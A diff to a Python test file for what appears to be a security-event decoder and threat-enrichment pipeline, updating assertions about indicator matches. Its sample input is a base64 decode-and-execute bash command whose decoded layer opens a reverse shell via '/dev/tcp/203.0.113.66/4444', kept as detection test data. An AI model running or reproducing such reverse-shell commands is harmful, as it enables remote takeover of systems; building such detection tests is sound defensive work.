@@ -118,8 +118,9 @@ class TestBundledSamples:
         doc = _exec(docs["events"], f"bash -c echo {payload} | base64 -d | bash")
         assert any("/dev/tcp/203.0.113.66/4444" in layer.get("text", "") for layer in doc["secstream"]["decoded"])
         assert "203.0.113.66" in doc["secstream"]["iocs"]["ipv4"]
-        hits = [e for e in doc["threat"]["enrichments"] if e["status"] == "hit"]
-        assert hits and hits[0]["indicator"]["value"] == "203.0.113.66"
+        hits = doc["threat"]["enrichments"]
+        assert hits and hits[0]["matched"]["atomic"] == "203.0.113.66"
+        assert hits[0]["indicator"]["type"] == "ipv4-addr"
 
     async def test_connect_is_decoded(self, sample_run: Any) -> None:
         """The connect syscall's SOCKADDR becomes destination.ip/port."""
